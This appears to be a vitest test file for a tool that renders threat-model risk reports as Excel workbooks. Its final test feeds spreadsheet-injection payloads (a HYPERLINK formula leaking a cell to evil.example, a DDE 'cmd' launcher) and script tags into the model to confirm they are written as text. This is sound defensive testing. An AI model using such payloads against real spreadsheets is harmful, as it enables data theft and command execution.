// The report workbook (risks.xlsx): read back with exceljs, sheet by sheet, in both languages; hostile
// text stays text; the same view gives the same bytes whatever the clock says.
import { createRequire } from 'node:module';
import { inflateRawSync } from 'node:zlib';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { Cell, Workbook, Worksheet } from 'exceljs';
import type { ReportView } from '../models/report.js';
import type { Lang } from '../models/vocabulary.js';
import { displayWidth, reportXlsx } from '../renderers/xlsx/report.js';
import { SHEET_NAMES as XLSX_SHEETS } from '../src/report/report.js';
import { buildReport, loadModel, type SourceHost } from '../src/index.js';
import { diskHost } from '../src/io/disk.js';
import { memoryHost } from './helpers/memory-host.js';

const ExcelJS = createRequire(import.meta.url)('exceljs') as typeof import('exceljs');

async function viewOf(path: string, lang: Lang, host: SourceHost = diskHost): Promise<ReportView> {
  const loaded = loadModel(path, host);
  if (!loaded.model) throw new Error(`${path} does not load: ${JSON.stringify(loaded.diagnostics)}`);
  return (await buildReport(loaded.model, { lang })).view;
}

async function read(bytes: Uint8Array): Promise<Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(Buffer.from(bytes) as unknown as ArrayBuffer);
  return workbook;
}

/** The entries of a zip, inflated: to look at the XML exceljs wrote, not only at what it reads back. */
function unzip(zip: Uint8Array): Map<string, string> {
  const buf = Buffer.from(zip);
  const end = buf.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  const files = new Map<string, string>();
  let p = buf.readUInt32LE(end + 16);
  for (let i = 0; i < buf.readUInt16LE(end + 10); i++) {
    const method = buf.readUInt16LE(p + 10);
    const size = buf.readUInt32LE(p + 20);
    const nameLength = buf.readUInt16LE(p + 28);
    const name = buf.toString('utf8', p + 46, p + 46 + nameLength);
    const local = buf.readUInt32LE(p + 42);
    const start = local + 30 + buf.readUInt16LE(local + 26) + buf.readUInt16LE(local + 28);
    const raw = buf.subarray(start, start + size);
    files.set(name, (method === 8 ? inflateRawSync(raw) : raw).toString('utf8'));
    p += 46 + nameLength + buf.readUInt16LE(p + 30) + buf.readUInt16LE(p + 32);
  }
  return files;
}

const headerOf = (ws: Worksheet): unknown[] => (ws.getRow(1).values as unknown[]).slice(1);
const sheet = (wb: Workbook, name: string): Worksheet => {
  const ws = wb.getWorksheet(name);
  if (!ws) throw new Error(`no sheet ${name}`);
  return ws;
};
/** The row (from 2) whose first cell is `id`. */
const rowWith = (ws: Worksheet, column: number, text: string): number => {
  for (let r = 2; r <= ws.rowCount; r++) if (ws.getRow(r).getCell(column).value === text) return r;
  throw new Error(`no row with ${text} in ${ws.name}`);
};
const fillOf = (cell: Cell): string | undefined => (cell.fill?.type === 'pattern' ? cell.fill.fgColor?.argb : undefined);
const flowRows = (view: ReportView): number => view.flows.sections.reduce((n, s) => n + s.rows.length + s.media.length, 0);

describe('sheet names', () => {
  it('are valid Excel sheet names, unique per language', () => {
    for (const lang of ['ja', 'en'] as const) {
      const names = Object.values(XLSX_SHEETS[lang]);
      expect(new Set(names).size).toBe(names.length);
      for (const name of names) {
        expect(name.length, name).toBeLessThanOrEqual(31);
        expect(name, name).not.toMatch(/[[\]:*?/\\]/);
        expect(name, name).not.toMatch(/^'|'$/);
      }
    }
  });
});

describe('the cloud-EHR workbook', async () => {
  const views = { ja: await viewOf('examples/cloud-ehr/model.yaml', 'ja'), en: await viewOf('examples/cloud-ehr/model.yaml', 'en') };
  const books = { ja: await read(await reportXlsx(views.ja)), en: await read(await reportXlsx(views.en)) };

  for (const lang of ['ja', 'en'] as const) {
    const view = views[lang];
    const wb = books[lang];
    const names = XLSX_SHEETS[lang];

    it(`${lang}: has the sheets in order`, () => {
      const expected: string[] = [names.flows, names.threats, names.responses, names.requests, names.agree, names.checklist, names.open];
      if (view.responses.orphaned.length > 0) expected.push(names.orphaned);
      expect(wb.worksheets.map((ws) => ws.name)).toEqual(expected);
    });

    it(`${lang}: each sheet has a frozen, bold, filled header row and a filter over its data`, () => {
      for (const ws of wb.worksheets) {
        expect(ws.views[0], ws.name).toMatchObject({ state: 'frozen', ySplit: 1 });
        const last = ws.getRow(1).cellCount;
        const ref = `A1:${ws.getColumn(last).letter}${Math.max(ws.rowCount, 1)}`;
        expect(ws.autoFilter, ws.name).toBe(ref);
        const first = ws.getRow(1).getCell(1);
        expect(first.font?.bold, ws.name).toBe(true);
        expect(fillOf(first), ws.name).toMatch(/^FF[0-9A-F]{6}$/);
        for (let c = 1; c <= last; c++) {
          const width = ws.getColumn(c).width ?? 0;
          expect(width, `${ws.name} column ${c}`).toBeGreaterThanOrEqual(10);
          expect(width, `${ws.name} column ${c}`).toBeLessThanOrEqual(62);
        }
      }
    });

    it(`${lang}: has one row per flow and medium, risk, response, request, requirement and open risk`, () => {
      const rows = (name: string): number => sheet(wb, name).rowCount - 1;
      expect(rows(names.flows)).toBe(flowRows(view));
      expect(rows(names.threats)).toBe(view.threats.rows.length);
      expect(rows(names.responses)).toBe(view.responses.rows.length);
      expect(rows(names.requests)).toBe(view.requests.reduce((n, g) => n + g.items.length, 0));
      expect(rows(names.checklist)).toBe(view.checklist.items.length);
      expect(rows(names.open)).toBe(view.open.length);
      expect(view.threats.rows.length).toBeGreaterThan(20);
      expect(view.checklist.items.length).toBeGreaterThan(0);
    });

    it(`${lang}: the risk list has the CSV's columns, and each risk's words`, () => {
      const h = view.threats.headings;
      const ws = sheet(wb, names.threats);
      expect(headerOf(ws)).toEqual([
        h.id, h.rank, h.level, h.phase, h.form, h.segment, h.flows, h.dataClass, h.threat, h.risk, h.cia, h.impact, h.likelihood, h.need,
        h.who, h.human, h.physical, h.technical, h.references, h.reasons,
      ]);
      view.threats.rows.forEach((r, i) => {
        const row = ws.getRow(i + 2);
        expect(row.getCell(1).value).toBe(r.id);
        expect(row.getCell(2).value).toBe(r.rank);
        expect(row.getCell(3).value).toBe(r.level);
        expect(row.getCell(10).value).toBe(r.cells.risk);
        expect(row.getCell(15).value).toBe(r.cells.who);
        expect(row.getCell(18).value).toBe(r.countermeasures.technical.join('\n'));
      });
      expect(headerOf(sheet(wb, names.open))).toEqual(headerOf(ws));
      // The risks to agree on are the risk list's rows for them, in the same columns.
      const agree = sheet(wb, names.agree);
      expect(headerOf(agree)).toEqual(headerOf(ws));
      expect(view.agree.length).toBeGreaterThan(0);
      view.agree.forEach((r, i) => { expect(agree.getRow(i + 2).getCell(1).value).toBe(r.id); });
    });

    it(`${lang}: the other sheets have their headers`, () => {
      const w = view.words;
      const f = view.flows.headings;
      expect(headerOf(sheet(wb, names.flows))).toEqual([view.threats.headings.form, view.threats.headings.phase, f.who, f.where, f.which, f.what, f.how, f.from, f.to, f.encrypted, f.id]);
      expect(headerOf(sheet(wb, names.responses))).toEqual([w['riskId'], w['rank'], w['title'], w['decision'], w['measures'], w['residual'], w['rationale'], w['agreedWith'], w['date'], w['where']]);
      expect(headerOf(sheet(wb, names.requests))).toEqual([w['category'], w['measures'], w['owner'], w['risks']]);
      expect(headerOf(sheet(wb, names.checklist))).toEqual([w['item'], w['requirement'], w['status'], w['evidence'], w['reference'], 'ID']);
    });

    it(`${lang}: ranks are coloured letters, checklist statuses coloured words`, () => {
      const ws = sheet(wb, names.threats);
      const colours = new Map<string, string | undefined>();
      for (let r = 2; r <= ws.rowCount; r++) {
        const cell = ws.getRow(r).getCell(2);
        expect(cell.type).toBe(ExcelJS.ValueType.String);
        colours.set(String(cell.value), fillOf(cell));
      }
      expect(colours.get('S')).toBe('FFC62828');
      expect(colours.get('A')).toBe('FFF57C00');
      expect(new Set(colours.values()).size).toBe(colours.size);
      const checklist = sheet(wb, names.checklist);
      const tones = { met: 'FFC6EFCE', 'not-met': 'FFFFC7CE', 'not-applicable': 'FFE7E6E6' } as const;
      view.checklist.items.forEach((item, i) => {
        const cell = checklist.getRow(i + 2).getCell(3);
        expect(cell.value).toBe(item.cells.status);
        expect(fillOf(cell)).toBe(tones[item.status]);
      });
    });
  }

  it('sizes columns by display width: full-width characters count two', () => {
    expect(displayWidth('医療情報')).toBe(8);
    expect(displayWidth('ＩＣカード')).toBe(10);
    expect(displayWidth('abc')).toBe(3);
    // Who in Japanese ("医師/代行入力者等が") needs a wider column than the same column in English.
    const ja = sheet(books.ja, XLSX_SHEETS.ja.flows).getColumn(3).width ?? 0;
    const en = sheet(books.en, XLSX_SHEETS.en.flows).getColumn(3).width ?? 0;
    expect(ja).toBeGreaterThan(en);
    // Long text wraps in a capped column.
    const risk = sheet(books.ja, XLSX_SHEETS.ja.threats).getRow(2).getCell(10);
    expect(risk.alignment?.wrapText).toBe(true);
    expect(sheet(books.ja, XLSX_SHEETS.ja.threats).getColumn(10).width).toBe(62);
  });

  it('is byte-identical whatever the time (fixed document dates, normalised zip times)', async () => {
    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(new Date('2031-05-06T07:08:09Z'));
    const one = await reportXlsx(views.ja);
    vi.setSystemTime(new Date('2042-12-31T23:59:58Z'));
    const two = await reportXlsx(views.ja);
    vi.useRealTimers();
    expect(Buffer.from(two).equals(Buffer.from(one))).toBe(true);
    const wb = await read(one);
    expect(wb.creator).toBe('koseizu');
    expect(wb.created.toISOString()).toBe('1980-01-01T00:00:00.000Z');
    expect(wb.modified.toISOString()).toBe('1980-01-01T00:00:00.000Z');
  });
});

afterEach(() => vi.useRealTimers());

describe('the minimal workbook (with a response)', () => {
  it('lists the response, its measures and what the institution is asked to do', async () => {
    const view = await viewOf('examples/minimal/model.yaml', 'en');
    expect(view.responses.rows.length).toBeGreaterThan(0);
    const wb = await read(await reportXlsx(view));
    const responses = sheet(wb, XLSX_SHEETS.en.responses);
    expect(responses.rowCount - 1).toBe(view.responses.rows.length);
    view.responses.rows.forEach((r, i) => {
      const row = responses.getRow(i + 2);
      expect(row.getCell(1).value).toBe(r.riskId);
      expect(row.getCell(2).value).toBe(r.rank);
      expect(row.getCell(5).value).toBe(r.cells.measures.join('\n'));
      expect(row.getCell(6).value).toBe(r.cells.residual);
      expect(row.getCell(9).value).toBe(r.cells.date);
    });
    const requests = sheet(wb, XLSX_SHEETS.en.requests);
    expect(requests.getRow(2).values).toEqual([undefined, 'human / organisational', 'Lock the back office when nobody is there', 'medical institution', view.requests[0]?.items[0]?.risks.join('\n')]);
  });
});

describe('hostile text', () => {
  const evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
  const model = `koseizu: 1
system: {id: hostile, title: "<script>alert(1)</script>", forms: [application], phases: [operation], lang: ja}
sites:
  - {id: clinic, label: "+cmd|' /C calc'!A0", owner: institution, country: JP}
locations:
  - {id: reception, label: "@SUM(1+1)", site: clinic}
  - {id: back-office, label: "-2+3", site: clinic, controls: [locked]}
actors:
  - {id: clerk, label: '${evil.replace(/'/g, "''")}', org: institution}
data:
  - {id: notes, label: "<script>alert(1)</script>", class: medical}
devices:
  - {id: pc, label: "=1+1", kind: terminal, at: reception, auth: [password]}
  - {id: server, label: "=cmd()", kind: server, at: back-office, roles: [process, store]}
networks:
  - {id: lan, label: LAN, kind: lan}
links:
  - {from: pc, to: server, network: lan, protocol: https, tls: "1.3"}
media:
  - {id: disk, label: "=disk", kind: external-hdd, from: back-office, to: reception, carrier: clerk, encrypted: false, data: [notes]}
flows:
  - {id: take-notes, label: "-take notes", phase: operation, who: clerk, where: reception, which: pc, what: [notes], how: [view, edit], path: [pc, server]}
responses:
  - risk: "*@take-notes/*"
    decision: reduce
    measures:
      - {category: human, owner: institution, text: "=HYPERLINK(\\"http://evil.example\\")"}
      - {category: technical, owner: provider, text: "<b>bold</b>"}
      - {category: physical, owner: both, text: "-2+3"}
    rationale: "+1 reason"
    agreed-with: "@director"
    date: 2026-01-02
  - {risk: "nothing@none/*", decision: accept, rationale: orphan}
`;
  const host = memoryHost({ 'model.yaml': model });

  it('stays a string: read back as text, never written as a formula', async () => {
    const view = await viewOf('model.yaml', 'ja', host);
    expect(view.responses.orphaned.length).toBe(1);
    const bytes = await reportXlsx(view);
    const wb = await read(bytes);
    expect(wb.worksheets.map((ws) => ws.name).at(-1)).toBe(XLSX_SHEETS.ja.orphaned);
    expect(sheet(wb, XLSX_SHEETS.ja.orphaned).getRow(2).getCell(1).value).toBe('nothing@none/*');

    const risky = /^[=+\-@]|<script>|<b>/;
    let seen = 0;
    for (const ws of wb.worksheets) {
      ws.eachRow((row) => row.eachCell((cell) => {
        expect(cell.formula, `${ws.name}!${cell.address}`).toBeUndefined();
        expect(cell.type === ExcelJS.ValueType.String || cell.type === ExcelJS.ValueType.Number, `${ws.name}!${cell.address}`).toBe(true);
        if (typeof cell.value === 'string' && risky.test(cell.value)) seen++;
      }));
    }
    expect(seen).toBeGreaterThan(5);
    const flows = sheet(wb, XLSX_SHEETS.ja.flows);
    expect(flows.getRow(2).getCell(3).value).toBe(`${evil}が`);
    expect(flows.getRow(2).getCell(5).value).toBe('=1+1で');
    expect(flows.getRow(3).getCell(5).value).toBe(`=disk（${view.flows.sections[0]?.media[0]?.kind ?? ''}）`);
    const responses = sheet(wb, XLSX_SHEETS.ja.responses);
    const r = rowWith(responses, 1, view.responses.rows[0]?.riskId ?? '');
    expect(responses.getRow(r).getCell(7).value).toBe('+1 reason');
    expect(responses.getRow(r).getCell(8).value).toBe('@director');
    expect(responses.getRow(r).getCell(9).value).toBe('2026-01-02');
    expect(sheet(wb, XLSX_SHEETS.ja.requests).getRow(2).getCell(2).value).toBe('=HYPERLINK("http://evil.example")');

    // In the XML itself: no formula element anywhere, and markup escaped in the shared strings.
    const files = unzip(bytes);
    const sheetsXml = [...files].filter(([name]) => name.startsWith('xl/worksheets/sheet'));
    expect(sheetsXml.length).toBe(wb.worksheets.length);
    for (const [name, xml] of sheetsXml) expect(xml, name).not.toMatch(/<f[ >]/);
    const strings = files.get('xl/sharedStrings.xml') ?? '';
    expect(strings).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(strings).not.toContain('<script>');
    expect(files.get('docProps/core.xml')).toContain('&lt;script&gt;');
  });
});
